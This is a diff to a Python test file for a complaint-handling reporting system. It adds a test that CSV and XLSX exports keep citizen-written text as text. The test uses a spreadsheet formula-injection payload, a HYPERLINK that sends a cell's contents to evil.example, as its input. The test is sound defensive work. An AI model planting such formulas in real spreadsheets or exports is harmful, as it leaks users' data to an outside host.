@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+from dataclasses import replace
 from datetime import date, timedelta
 
 import pytest
@@ -119,3 +121,22 @@ def test_the_xlsx_report_has_a_sheet_per_table_and_a_chart_and_the_json_exact_co
     assert (data["received"], data["totals"]["dispatched"], data["totals"]["completed"]) == (5, 5, 3)
     assert data["best"] == ["cgj"] and data["worst"] == []
     assert render_csv(report).startswith("\ufeff表,范围,派单量")
+
+
+def test_exports_keep_what_citizens_wrote_as_text_never_a_formula(
+    jurisdiction: Jurisdiction, calendar: WorkingCalendar, rules: LifecycleRules
+) -> None:
+    desk = Desk(rules, "R-formula").unit(SignOrder, MONDAY + hours(1))
+    monthly = period_for(PeriodKind.MONTHLY, date(2026, 3, 2), "Asia/Shanghai")
+    found = build_report([desk.events], monthly, MONDAY + timedelta(days=12), jurisdiction, calendar)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    found = replace(found, outstanding=[replace(found.outstanding[0], text=formula)])
+
+    rows = [
+        row for row in csv.reader(io.StringIO(render_csv(found).lstrip("\ufeff"))) if row[0] == "突出问题"
+    ]
+    assert [row[-1] for row in rows] == ["'" + formula]
+
+    sheet = load_workbook(io.BytesIO(render_xlsx(found, MONDAY)))["突出问题"]
+    cell = sheet.cell(row=3, column=8)
+    assert (cell.value, cell.data_type) == (formula, "s")
